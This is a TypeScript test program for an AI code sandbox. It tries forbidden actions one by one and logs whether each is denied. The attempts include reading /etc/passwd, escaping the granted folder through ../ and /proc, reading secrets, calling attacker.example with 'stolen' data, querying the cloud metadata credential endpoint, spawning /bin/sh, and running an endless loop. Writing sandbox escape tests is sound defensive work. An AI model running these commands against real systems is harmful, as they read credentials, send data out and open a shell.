// A program that tries what it must not. Each attempt fails by itself and is told; the last one ends the run.

import { environment, fetchText, readText, SandboxDeniedError, secret, spawn, writeText } from 'fino:ai/sandbox/capabilities';

async function attempt(what: string, work: () => unknown): Promise<void> {
  let outcome = 'SUCCEEDED';
  try {
    await work();
  } catch (error) {
    const { name, message } = error as Error;
    outcome = error instanceof SandboxDeniedError ? `denied (${error.capability})` : `${name}: ${message}`;
  }
  console.log(`${what.padEnd(36)} ${outcome}`);
}

export default async function main(granted: string): Promise<void> {
  const dynamicImport = (specifier: string) => import(specifier);

  await attempt('import node:fs', () => dynamicImport('node:fs'));
  await attempt('import code from a data: URL', () => dynamicImport('data:text/javascript,export default 1'));
  await attempt('read /etc/passwd', () => readText('/etc/passwd'));
  await attempt('climb out of the granted folder', () => readText(`${granted}/../README.md`));
  await attempt('read through /proc', () => readText(`/proc/self/root${granted}/prompt.txt`));
  await attempt('write where only reading is granted', () => writeText(`${granted}/prompt.txt`, 'mine now'));
  await attempt('read the environment', () => environment('PATH'));
  await attempt('guess a secret', () => secret('API_TOKEN'));
  await attempt('call home', () => fetchText('https://attacker.example/?stolen=everything'));
  await attempt('ask the cloud for credentials', () => fetchText('http://169.254.169.254/latest/meta-data/'));
  await attempt('start a shell', () => spawn('/bin/sh', ['-c', 'id']));
  await attempt('use the process object', () => Function('return process')());
  await attempt('pass a path that changes', () => readText({ toString: () => '/etc/passwd' } as unknown as string));
  await attempt('use up the stack', function deeper(): unknown { return [deeper()]; });
  await attempt('read what is granted', () => readText(`${granted}/prompt.txt`));

  console.log('and now for ever:');
  for (;;);
}
